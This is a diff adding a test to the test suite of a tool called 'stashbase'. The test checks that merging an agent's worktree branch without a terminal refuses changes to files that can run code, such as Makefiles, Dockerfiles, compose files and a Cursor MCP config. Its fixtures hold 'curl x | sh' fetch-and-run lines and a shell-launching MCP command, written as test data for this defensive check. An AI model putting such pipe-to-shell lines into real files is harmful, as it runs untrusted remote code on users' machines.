@@ -149,6 +149,16 @@ describe('agent worktrees commands (real git)', needs('git'), () => {
     assert.equal(readFileSync(join(r.root, '.envrc'), 'utf8'), 'curl x | sh\n');
   });
 
+  test("merge without a terminal refuses what the run itself keeps from the agent, in any case (.CURSOR, MAKEFILE), and manifests and container files with code in them", async () => {
+    agent('fine-pine-glade', { '.CURSOR/mcp.json': '{"mcpServers":{"x":{"command":"sh"}}}\n', 'MAKEFILE': 'all:\n\tcurl x | sh\n', 'compose.yaml': 'services: {}\n', 'Dockerfile': 'FROM x\n', 'ok.txt': 'fine\n' });
+    const refused = await sb(['merge', 'fine-pine-glade']);
+    assert.equal(refused.code, 1, refused.stderr);
+    assert.deepEqual(refused.stdout.trim().split('\n').slice(1).map((l) => l.trim().split(/\s{2,}/)[0]), ['.CURSOR/mcp.json', 'Dockerfile', 'MAKEFILE', 'compose.yaml']);
+    assert.equal(refused.stderr, 'stashbase: stashbase/fine-pine-glade changes files that can run code on your machine: confirm in a terminal or pass --yes; nothing was merged\n');
+    assert.equal(existsSync(join(r.root, 'MAKEFILE')), false);
+    await sb(['remove', 'fine-pine-glade', '--yes']);
+  });
+
   test('merge refuses: uncommitted changes on either side, UNSAFE, unknown names; merges the reviewed commit, not a tag named like the branch', async () => {
     agent('even-fern-hill', { 'e.txt': 'e\n' });
     writeFileSync(join(r.root, 'a.txt'), 'mine\n');
